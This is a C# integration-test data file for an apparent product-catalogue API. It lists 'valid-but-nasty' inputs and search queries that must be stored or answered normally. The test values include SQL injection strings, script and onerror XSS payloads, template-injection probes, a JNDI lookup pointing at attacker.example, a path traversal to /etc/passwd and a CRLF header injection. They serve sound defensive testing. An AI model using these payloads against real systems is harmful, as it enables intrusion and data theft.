namespace Enterprise.IntegrationTests.Hostile;

/// <summary>What a valid-but-nasty value is sent as.</summary>
public enum NastyTarget
{
    ProductName,
    ProductDescription,
    CategoryName,
}

/// <summary>A value that looks hostile but is legitimate text: it must be stored and returned exactly.</summary>
public sealed record NastyButValid(string Label, NastyTarget Target, string Value)
{
    public override string ToString() => Label;
}

/// <summary>A list query that looks hostile but is a legitimate search or sort: 200, matching items only.</summary>
public sealed record NastyButValidQuery(string Label, string Query, string? Search = null, string? Accept = null)
{
    public override string ToString() => Label;
}

/// <summary>
/// The valid-but-nasty table: text with right-to-left marks, SQL and script injection, template syntax and
/// unusual Unicode is data like any other. Kept apart from <see cref="HostileCases"/>: these are accepted (201 or
/// 200), so they do not count towards the rejected requests.
/// </summary>
public static class NastyButValidInputs
{
    private static readonly (string Label, string Value)[] Texts =
    [
        ("a right-to-left override", "Widget \u202Eevil\u202C Pro"),
        ("right-to-left and left-to-right marks", "\u200FHebrew \u05E9\u05DC\u05D5\u05DD\u200E mixed"),
        ("Arabic text", "\u0645\u0646\u062A\u062C \u0631\u0642\u0645 1"),
        ("SQL injection that drops a table", "Robert'); DROP TABLE Products;--"),
        ("SQL injection that is always true", "' OR '1'='1"),
        ("a SQL comment and semicolon", "name; -- comment /* block */"),
        ("a script tag", "<script>alert(1)</script>"),
        ("an image with an onerror handler", "<img src=x onerror=alert(1)>"),
        ("template syntax", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>"),
        ("a JNDI lookup", "${jndi:ldap://attacker.example/a}"),
        ("a path traversal", "../../../etc/passwd"),
        ("percent-encoded text", "%00%27%22%3Cscript%3E"),
        ("LIKE wildcards", "100% _real_ [a-z]"),
        ("backslashes and quotes", "C:\\temp\\\"quoted\" 'single'"),
        ("emoji with joiners", "Family \U0001F468\u200D\U0001F469\u200D\U0001F467 \U0001F9E8"),
        ("combining marks", "Z\u0337\u0322\u031Ba\u0338l\u0335g\u0336o\u0334"),
        ("zero-width characters inside", "Zero\u200Bwidth\u200Cjoin\u200Dtext\uFEFF"),
        ("full-width letters", "\uFF21\uFF22\uFF23 Widget"),
        ("the words null and undefined", "null undefined NaN true"),
        ("a literal backslash-u escape", "\\u0000 is not a NUL"),
        ("a CRLF header injection in text", "Widget%0d%0aSet-Cookie: x=1"),
        ("characters outside the BMP", "\U0001D54F\U0001D550\U0001D551 math"),
    ];

    public static IEnumerable<TestCaseData> Values =>
        Texts.SelectMany(text => new[]
        {
            new NastyButValid($"product name with {text.Label}", NastyTarget.ProductName, text.Value),
            new NastyButValid($"category name with {text.Label}", NastyTarget.CategoryName, text.Value),
        })
        .Append(new NastyButValid("description with line breaks and tabs", NastyTarget.ProductDescription, "Line one\nLine two\r\n\tIndented"))
        .Append(new NastyButValid("description with a script tag", NastyTarget.ProductDescription, "<script>fetch('//x')</script>"))
        .Append(new NastyButValid("description with a right-to-left override", NastyTarget.ProductDescription, "Price \u202E0001\u202C EUR"))
        .Append(new NastyButValid("description of exactly 2000 characters", NastyTarget.ProductDescription, new string('d', 2000)))
        .Append(new NastyButValid("product name of exactly 200 characters", NastyTarget.ProductName, new string('n', 200)))
        .Append(new NastyButValid("category name of exactly 100 characters", NastyTarget.CategoryName, "c" + new string('c', 99)))
        .Select(value => new TestCaseData(value).SetName($"Stores and returns exactly a {value.Label}"));

    public static IEnumerable<TestCaseData> Queries =>
        new NastyButValidQuery[]
        {
            new("a search with SQL injection", "q=%27%20OR%201%3D1%20--", "' OR 1=1 --"),
            new("a search with a percent sign", "q=%25", "%"),
            new("a search with an underscore", "q=_", "_"),
            new("a search with a bracket pattern", "q=%5Ba-z%5D", "[a-z]"),
            new("a search with a right-to-left override", "q=%E2%80%AE", "\u202E"),
            new("a search with a script tag", "q=%3Cscript%3E", "<script>"),
            new("a search with a backslash", "q=%5C", "\\"),
            new("a search of exactly 100 characters", "q=" + new string('q', 100), new string('q', 100)),
            new("a sort in mixed case", "sort=NAME,-Price"),
            new("a list accepting XML", string.Empty, Accept: "application/xml"),
            new("a list accepting HTML", "page=1", Accept: "text/html"),
        }
        .Select(query => new TestCaseData(query).SetName($"Answers {query.Label} with matching products only"));
}
